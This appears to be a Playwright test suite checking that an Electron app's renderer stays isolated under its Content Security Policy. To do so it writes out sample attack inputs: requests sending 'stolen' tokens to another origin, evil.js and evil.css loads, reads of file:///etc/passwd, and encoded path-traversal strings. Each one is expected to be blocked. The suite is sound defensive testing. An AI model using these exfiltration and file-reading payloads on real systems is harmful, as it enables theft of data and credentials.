// The renderer as an attacker would find it after an XSS: no Node, no file
// system, no other origin, no framing, and only the harness's own API behind
// a token another page cannot get. The CSP here is the same one the Electron
// shell sends on app:// (shared/security/csp.ts). Navigation and window.open
// are refused by the Electron shell itself: the shell unit test covers the
// handlers with the fake electron module, and test/electron/ in real Electron.
import { screens } from '../../renderer/app/screens.ts';
import { expect, test } from './fixtures.ts';
import { goTo } from './helpers.ts';

test.describe('the renderer’s isolation', () => {
  test('the CSP refuses inline script, inline handlers, eval and string timers', async ({
    page,
    openHerald,
  }) => {
    await openHerald();
    const outcome = await page.evaluate(async () => {
      const flags = window as unknown as Record<string, boolean | undefined>;
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (event) =>
        violations.push(event.effectiveDirective),
      );
      const inline = document.createElement('script');
      inline.textContent = 'window.__inlineRan = true';
      document.body.appendChild(inline);
      const image = document.createElement('img');
      image.setAttribute('src', 'data:image/gif;base64,R0lGODlhAQABAAAAACw=');
      image.setAttribute('onload', 'window.__handlerRan = true');
      image.setAttribute('onerror', 'window.__handlerRan = true');
      document.body.appendChild(image);
      // DevTools lets eval through while its own evaluate call runs (allowUnsafeEvalBlockedByCSP), so try
      // eval from a later task, as page script would.
      const later = <T>(attempt: () => T) =>
        new Promise<T | 'refused'>((resolve) =>
          setTimeout(() => {
            try {
              resolve(attempt());
            } catch {
              resolve('refused');
            }
          }, 0),
        );
      const evalRan = (await later(() => (0, eval)('true') as unknown)) === true;
      // eslint-disable-next-line @typescript-eslint/no-implied-eval -- string code generation is what the CSP must refuse
      const functionRan = (await later(() => (new Function('return true') as () => unknown)())) === true;
      try {
        (setTimeout as unknown as (code: string, ms: number) => void)('window.__timerRan = true', 0);
      } catch {
        // a refused string timer may throw or silently do nothing
      }
      await new Promise((resolve) => setTimeout(resolve, 300));
      return {
        inlineRan: flags.__inlineRan === true,
        handlerRan: flags.__handlerRan === true,
        evalRan,
        functionRan,
        timerRan: flags.__timerRan === true,
        violations: [...new Set(violations)].sort(),
      };
    });
    expect(outcome).toMatchObject({
      inlineRan: false,
      handlerRan: false,
      evalRan: false,
      functionRan: false,
      timerRan: false,
    });
    expect(outcome.violations).toEqual(
      expect.arrayContaining(['script-src-elem', 'script-src-attr', 'script-src']),
    );
  });

  test('the page cannot reach another origin: fetch, beacons, images, scripts, styles, frames, sockets and forms are refused', async ({
    page,
    openHerald,
    slack,
  }) => {
    await openHerald();
    // The fake Slack server is live on loopback: only the CSP stands between the page and it.
    const outcome = await page.evaluate(async (elsewhere) => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (event) =>
        violations.push(event.effectiveDirective),
      );
      let fetched = false;
      try {
        await fetch(`${elsewhere}auth.test`, { method: 'POST', body: 'token=stolen' });
        fetched = true;
      } catch {
        fetched = false;
      }
      navigator.sendBeacon(`${elsewhere}chat.postMessage`, 'stolen');
      const add = (tag: string, attributes: Record<string, string>) => {
        const element = document.createElement(tag);
        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
        document.body.appendChild(element);
        return element;
      };
      add('img', { src: `${elsewhere}pixel.gif?stolen` });
      add('script', { src: `${elsewhere}evil.js` });
      add('link', { rel: 'stylesheet', href: `${elsewhere}evil.css` });
      add('iframe', { src: `${elsewhere}frame` });
      add('object', { data: `${elsewhere}object` });
      let socketOpened = false;
      try {
        const socket = new WebSocket(elsewhere.replace(/^http/, 'ws'));
        socket.onopen = () => (socketOpened = true);
      } catch {
        socketOpened = false;
      }
      const form = add('form', { action: `${elsewhere}chat.postMessage`, method: 'post' }) as HTMLFormElement;
      let formSubmitted = true;
      try {
        form.submit();
      } catch {
        formSubmitted = false;
      }
      await new Promise((resolve) => setTimeout(resolve, 500));
      return {
        fetched,
        socketOpened,
        violations: [...new Set(violations)].sort(),
        stillHere: location.origin,
        formSubmitted,
      };
    }, slack.url);
    expect(outcome.fetched).toBe(false);
    expect(outcome.socketOpened).toBe(false);
    expect(outcome.stillHere).toBe(new URL(page.url()).origin);
    expect(outcome.violations).toEqual(
      expect.arrayContaining(['connect-src', 'img-src', 'script-src-elem', 'style-src-elem', 'frame-src']),
    );
    // Nothing reached the other server at all.
    expect(slack.requests).toHaveLength(0);
  });

  test('the page has no Node and cannot read local files', async ({ page, openHerald }) => {
    await openHerald();
    const globals = await page.evaluate(() => {
      const scope = globalThis as Record<string, unknown>;
      return [
        'require',
        'process',
        'module',
        'exports',
        'Buffer',
        'global',
        '__dirname',
        'ipcRenderer',
        'electron',
      ].filter((name) => name in scope);
    });
    expect(globals).toEqual([]);
    const outcome = await page.evaluate(async () => {
      const attempts: Record<string, boolean> = {};
      try {
        const response = await fetch('file:///etc/passwd');
        attempts.fetch = (await response.text()).includes('root:');
      } catch {
        attempts.fetch = false;
      }
      try {
        const target = 'file:///etc/passwd';
        await import(target);
        attempts.import = true;
      } catch {
        attempts.import = false;
      }
      const request = new XMLHttpRequest();
      try {
        request.open('GET', 'file:///etc/passwd', false);
        request.send();
        attempts.xhr = request.responseText.includes('root:');
      } catch {
        attempts.xhr = false;
      }
      // The harness serves only its renderer folder, however the path is spelled.
      for (const path of [
        '/..%2f..%2f..%2f..%2fetc%2fpasswd',
        '/%2e%2e/%2e%2e/%2e%2e/etc/passwd',
        '/../../../../etc/passwd',
      ]) {
        const response = await fetch(path);
        attempts[path] = (await response.text()).includes('root:');
      }
      return attempts;
    });
    expect(Object.entries(outcome).filter(([, hasRead]) => hasRead)).toEqual([]);
  });

  test('another web page can neither frame Herald nor call its API', async ({
    page,
    openHerald,
    harness,
    slack,
  }) => {
    await openHerald();
    // A page on another origin (the fake Slack server's) plays the hostile site.
    const hostile = await page.context().newPage();
    await hostile.goto(`${slack.url}conversations.list`);
    const outcome = await hostile.evaluate(
      async ({ origin, token }) => {
        const frame = document.createElement('iframe');
        frame.src = `${origin}/`;
        document.body.appendChild(frame);
        await new Promise((resolve) => setTimeout(resolve, 800));
        let frameReadable = false;
        try {
          frameReadable = frame.contentDocument?.body?.innerHTML.includes('Herald') ?? false;
        } catch {
          frameReadable = false;
        }
        const calls: Record<string, string> = {};
        // Even holding a stolen token, a cross-origin page is refused; without one it is refused anyway.
        for (const [label, headers] of [
          ['with the token', { 'content-type': 'application/json', authorization: `Bearer ${token}` }],
          ['without a token', { 'content-type': 'text/plain' }],
        ] as const) {
          try {
            const response = await fetch(`${origin}/api/settings:update`, {
              method: 'POST',
              headers,
              body: JSON.stringify({ keepRunningInTray: false }),
            });
            calls[label] = `answered ${response.status}`;
          } catch {
            calls[label] = 'blocked';
          }
        }
        return { frameReadable, calls };
      },
      { origin: harness.origin, token: harness.token },
    );
    expect(outcome.frameReadable).toBe(false);
    for (const result of Object.values(outcome.calls)) expect(result).not.toBe('answered 200');
    const settings = await page.evaluate(async (): Promise<unknown> => {
      const token = sessionStorage.getItem('herald.harnessToken') ?? '';
      const response = await fetch('/api/settings:get', {
        method: 'POST',
        headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
        body: '{}',
      });
      return (await response.json()) as unknown;
    });
    expect(settings).toMatchObject({ ok: true, value: { keepRunningInTray: true } });
    await hostile.close();
  });

  test('links the page shows open outside the app, never with access back to it', async ({
    page,
    openHerald,
  }) => {
    await openHerald();
    for (const { label: name } of screens) {
      await goTo(page, name);
      const unsafe = await page.evaluate(() =>
        [...document.querySelectorAll('a[href]')]
          .filter((link) => {
            const anchor = link as HTMLAnchorElement;
            if (anchor.origin === location.origin) return false;
            const rel = anchor.rel.split(/\s+/);
            return anchor.target !== '_blank' || !rel.includes('noopener') || !rel.includes('noreferrer');
          })
          .map((link) => (link as HTMLAnchorElement).href),
      );
      expect(unsafe, name).toEqual([]);
    }
  });
});
